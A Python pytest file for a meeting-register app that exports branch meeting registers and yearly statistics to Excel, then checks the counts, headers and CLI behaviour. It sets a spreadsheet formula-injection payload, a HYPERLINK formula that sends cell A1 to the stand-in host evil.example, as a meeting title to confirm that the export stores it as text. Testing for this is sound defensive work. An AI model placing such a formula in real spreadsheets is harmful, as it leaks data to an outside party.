"""The register and statistics exports, read back with openpyxl: values, counts, no formulas."""

from __future__ import annotations

from datetime import UTC, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from openpyxl import load_workbook

from studyhub.meetings import queries
from studyhub.meetings.models import AttendanceStatus, MeetingKind
from studyhub.meetings.services import attendance, records, register
from tests.meetings.conftest import minutes, plan_lesson

SHANGHAI = ZoneInfo("Asia/Shanghai")
MID_JUNE = datetime(2026, 6, 15, 4, 0, tzinfo=UTC)
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击")'


def local(*args: int) -> datetime:
    return datetime(*args, tzinfo=SHANGHAI).astimezone(UTC)


def hold(session, world, kind, at, *, title="学习党章", group=None, branch=None, by=None):
    by = by or world.secretary_a
    meeting = plan_lesson(
        session,
        world,
        kind=kind,
        at=at,
        title=title,
        group=group,
        branch=branch,
        by=by,
        now=at - timedelta(days=7),
    )
    records.record_meeting(session, meeting, minutes(at), by=by.user, now=at + timedelta(hours=2))
    return meeting


def mark(session, meeting, member, status, reason, by):
    row = session.scalars(queries.attendance_of(meeting.id, member.user_id)).one()
    attendance.mark_attendance(
        session, row, status=status, reason=reason, by=by.user, now=meeting.started_at
    )


def sheet_rows(path, title):
    workbook = load_workbook(path)
    sheet = workbook[title]
    formulas = [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]
    return [list(row) for row in sheet.iter_rows(values_only=True)], formulas, workbook


def test_register_reads_back_with_counts_names_and_hostile_text(session, world, tmp_path):
    lesson = hold(session, world, MeetingKind.LESSON, local(2026, 3, 31, 23, 30), title=HOSTILE)
    lesson.place = "+86 会议室"
    lesson.host_name = "@甲书记"
    for member in (world.secretary_a, world.committee_a, world.leader_a1):
        mark(session, lesson, member, AttendanceStatus.PRESENT, None, world.secretary_a)
    mark(session, lesson, world.member_a1, AttendanceStatus.EXCUSED, "出差", world.secretary_a)
    mark(session, lesson, world.member_a2, AttendanceStatus.ABSENT, "-1+1", world.secretary_a)
    group = hold(
        session, world, MeetingKind.GROUP_MEETING, local(2026, 1, 5, 19), group=world.group_a1
    )
    plan_lesson(session, world, kind=MeetingKind.COMMITTEE_MEETING, at=local(2026, 7, 1, 9))
    hold(
        session,
        world,
        MeetingKind.LESSON,
        local(2026, 2, 1, 9),
        branch=world.branch_b,
        by=world.secretary_b,
    )
    hold(session, world, MeetingKind.LESSON, local(2025, 12, 31, 23, 59))  # last year locally
    path = tmp_path / "register.xlsx"

    written = register.write_register(session, world.branch_a, 2026, path)

    assert written == register.count_register(session, world.branch_a, 2026) == 3
    rows, formulas, workbook = sheet_rows(path, "2026年会议台账")
    assert formulas == []
    assert rows[0][0] == "甲支部 2026年“三会一课”会议台账"
    assert tuple(rows[1]) == register.REGISTER_HEADERS
    header = {name: i for i, name in enumerate(register.REGISTER_HEADERS)}
    first, second, third = rows[2:]
    assert first[header["会议类型"]] == "党小组会"
    assert first[header["党小组"]] == "甲一小组"
    assert first[header["时间"]] == "2026-01-05 19:00"
    # The group's roster: its two members, marked absent until someone checks in.
    assert [first[header[k]] for k in ("应到", "实到", "请假", "缺席")] == [2, 0, 0, 2]
    assert second[header["议题"]] == HOSTILE  # text, not a formula
    assert second[header["地点"]] == "+86 会议室"
    assert second[header["主持人"]] == "@甲书记"
    assert second[header["时间"]] == "2026-03-31 23:30"
    assert second[header["结束时间"]] == "2026-04-01 01:00"
    assert [second[header[k]] for k in ("应到", "实到", "请假", "缺席")] == [5, 3, 1, 1]
    assert second[header["请假人员及原因"]] == "甲党员一（出差）"
    assert second[header["缺席人员及原因"]] == "甲党员二（-1+1）"
    assert second[header["状态"]] == "已召开（未报送）"
    assert second[header["序号"]] == 2
    assert third[header["状态"]] == "计划中"
    assert [third[header[k]] for k in ("应到", "实到", "请假", "缺席")] == [None] * 4
    cell = workbook["2026年会议台账"].cell(row=4, column=header["议题"] + 1)
    assert cell.data_type == "s"
    assert group.id != lesson.id


def test_statistics_per_branch_month_and_kind(session, world, tmp_path):
    hold(session, world, MeetingKind.COMMITTEE_MEETING, local(2026, 3, 31, 23, 30))
    hold(session, world, MeetingKind.COMMITTEE_MEETING, local(2026, 4, 1, 0, 10))
    hold(session, world, MeetingKind.GROUP_MEETING, local(2026, 3, 5, 19), group=world.group_a1)
    hold(session, world, MeetingKind.LESSON, local(2026, 2, 5, 9))
    hold(session, world, MeetingKind.THEME_DAY, local(2026, 5, 5, 9), title=HOSTILE)
    hold(
        session,
        world,
        MeetingKind.LESSON,
        local(2026, 5, 5, 9),
        branch=world.branch_b,
        by=world.secretary_b,
    )
    path = tmp_path / "stats.xlsx"

    branches = register.write_statistics(session, world.committee, 2026, path, now=MID_JUNE)

    assert branches == 3
    months, formulas, workbook = sheet_rows(path, "按月统计")
    assert formulas == []
    assert workbook.sheetnames == ["按月统计", "年度汇总", "说明"]
    assert tuple(months[0]) == register.MONTH_HEADERS
    by_key = {(row[0], row[1]): row for row in months[1:]}
    assert len(by_key) == 3 * 12
    march, april = by_key[("甲支部", "2026-03")], by_key[("甲支部", "2026-04")]
    # Kind columns: committee, group, general, lesson, theme day, 组织生活会, 民主评议.
    assert march[2:9] == [1, 1, 0, 0, 0, 0, 0]
    assert april[2:9] == [1, 0, 0, 0, 0, 0, 0]
    # March asks the committee meeting and both groups' meetings: 2 of 3 held.
    assert march[9:12] == [3, 2, 1]
    assert round(march[12], 4) == round(2 / 3, 4)
    assert by_key[("甲支部", "2026-07")][10:13] == [0, 0, None]  # ahead: nothing counted
    years, formulas, _ = sheet_rows(path, "年度汇总")
    assert formulas == []
    by_branch = {row[0]: row for row in years[1:]}
    a = by_branch["甲支部"]
    assert a[1:8] == [2, 1, 0, 1, 1, 0, 0]
    # Met: Mar, Apr committee; Mar 甲一; Q1 lesson = 4. Missing: Jan, Feb, May committee (3),
    # 甲一 Jan, Feb, Apr, May (4), 甲二 Jan–May (5), Q1 general meeting (1) = 13.
    # The yearly 组织生活会 and 民主评议 are due, not missing, in June: not counted yet.
    assert a[8:11] == [17, 4, 13]
    assert round(a[11], 4) == round(4 / 17, 4)
    total = by_branch["合计（会议测试党委）"]
    b = by_branch["乙支部"]
    assert total[8:11] == [
        a[8] + b[8] + by_branch["党委办公室"][8],
        a[9] + b[9] + by_branch["党委办公室"][9],
        a[10] + b[10] + by_branch["党委办公室"][10],
    ]
    assert b[1:8] == [0, 0, 0, 1, 0, 0, 0]


def test_statistics_take_three_statements_whatever_the_branches(
    session, world, make, tmp_path, count_queries
):
    for n in range(8):
        branch = make.branch(world.committee, f"统计支部{n}")
        hold(session, world, MeetingKind.LESSON, local(2026, 1, 10 + n, 9), branch=branch)
    session.expire_all()
    committee = world.committee
    assert committee.path
    with count_queries() as statements:
        register.write_statistics(session, committee, 2026, tmp_path / "s.xlsx", now=MID_JUNE)
    assert len(statements) == 3


@pytest.fixture
def export(app, session):
    runner = app.test_cli_runner()

    def invoke(*args: str):
        return runner.invoke(args=["export-meetings", *args])

    return invoke


def test_export_command_writes_the_register_and_the_statistics(export, session, world, tmp_path):
    hold(session, world, MeetingKind.LESSON, local(2026, 3, 2, 9), title=HOSTILE)
    hold(session, world, MeetingKind.LESSON, local(2026, 3, 3, 9), branch=world.branch_b,
         by=world.secretary_b)  # fmt: skip
    out = tmp_path / "register.xlsx"
    result = export("--year", "2026", "--branch", str(world.branch_a.id), "--kind", "register",
                    "-o", str(out))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert f"1 meetings written to {out}" in result.output
    rows, formulas, _ = sheet_rows(out, "2026年会议台账")
    assert formulas == [] and rows[2][3] == HOSTILE
    stats = tmp_path / "stats.xlsx"
    result = export("--year", "2026", "--committee", str(world.committee.id), "--kind", "stats",
                    "-o", str(stats))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert f"3 branches written to {stats}" in result.output
    years, formulas, _ = sheet_rows(stats, "年度汇总")
    assert formulas == []
    assert {row[0]: row[4] for row in years[1:4]} == {"甲支部": 1, "乙支部": 1, "党委办公室": 0}


def test_export_command_refuses_wrong_units(export, session, world, tmp_path):
    out = str(tmp_path / "x.xlsx")
    no_branch = export("--year", "2026", "--kind", "register", "-o", out)
    assert no_branch.exit_code == 2 and "give --branch" in no_branch.output
    group = export("--year", "2026", "--branch", str(world.group_a1.id), "--kind", "register",
                   "-o", out)  # fmt: skip
    assert group.exit_code == 2 and "no branch with id" in group.output
    branch_as_committee = export("--year", "2026", "--committee", str(world.branch_a.id),
                                 "--kind", "stats", "-o", out)  # fmt: skip
    assert branch_as_committee.exit_code == 2
    assert not (tmp_path / "x.xlsx").exists()
